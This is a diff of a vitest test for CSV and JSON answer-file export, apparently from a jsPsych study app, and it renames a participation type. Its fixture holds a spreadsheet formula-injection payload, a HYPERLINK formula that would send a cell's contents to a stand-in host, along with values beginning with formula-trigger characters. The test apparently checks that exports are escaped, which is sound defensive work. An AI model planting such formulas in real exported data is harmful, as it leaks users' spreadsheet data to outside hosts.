@@ -1,13 +1,13 @@
 import { expect, it, vi } from "vitest";
 import { csvFile, jsonFile } from "./answer-files";
-import type { KeptParticipation } from "./participation";
+import type { StoredParticipation } from "./participation";
 
 // jsPsych looks for a window when it is imported.
 vi.hoisted(() => vi.stubGlobal("window", globalThis));
 
 const participant = '=HYPERLINK("http://a.b/?"&B2,"ok")';
 
-const kept: KeptParticipation = {
+const kept: StoredParticipation = {
   ...{ key: "k", at: 0, participant, seed: 1, study: "+hash", title: "@title", trials: 1, simulated: false },
   rows: [{ participant, study: "@title", left: "-id", heading: -30, response: "left" }],
 };
